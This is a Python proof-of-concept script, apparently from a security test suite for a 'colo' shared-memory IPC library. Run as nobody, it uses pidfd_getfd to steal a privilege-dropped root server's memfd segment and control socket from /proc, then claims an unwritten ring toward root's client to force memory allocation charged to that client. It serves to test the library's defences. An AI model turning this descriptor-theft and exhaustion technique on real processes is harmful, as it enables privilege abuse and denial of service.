"""Run as nobody by t_rt_dropped_server.sh: takes the descriptors of root's server that
dropped to nobody (py/dropped_server.py, process PID; pidfd_getfd, which the kernel allows the
process's own user once it is dumpable), its connection's segment memfd and control socket
(the connected SEQPACKET socket whose peer is another process), claims a whole ring of bytes
toward root's client it never writes (holes) and FIN, rings the client, and prints
"READ <n> of <capacity>" and "ALLOCATED <MiB>": what the client's reads allocated of its
memfd, charged to root's client, while it holds the connection.
Usage: dropped_thief.py PID"""
import ctypes
import os
import socket
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import colo_attack as ca  # noqa: E402

pid = int(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
pidfd = os.pidfd_open(pid)


def getfd(n):
    fd = libc.syscall(438, pidfd, n, 0)  # pidfd_getfd
    if fd < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd %d" % n)
    return fd


seg = ctl = None
for name in os.listdir("/proc/%d/fd" % pid):
    try:
        link = os.readlink("/proc/%d/fd/%s" % (pid, name))
    except OSError:
        continue
    if link.startswith("/memfd:colo-seg") or link.startswith("/memfd:colo "):  # Rust, Go
        seg = getfd(int(name))
    elif link.startswith("socket:"):
        fd = getfd(int(name))
        t = socket.socket(fileno=fd)
        try:
            peer_pid = struct.unpack("3i", t.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
            kind = t.getsockopt(socket.SOL_SOCKET, socket.SO_TYPE)
            if kind == socket.SOCK_SEQPACKET and peer_pid not in (0, pid):
                ctl = t.detach()
        except OSError:
            pass
print("TOOK segment=%s control=%s" % (seg, ctl), flush=True)
if seg is None:
    sys.exit(0)
ca.claim_ring_toward_client(seg, ctl)
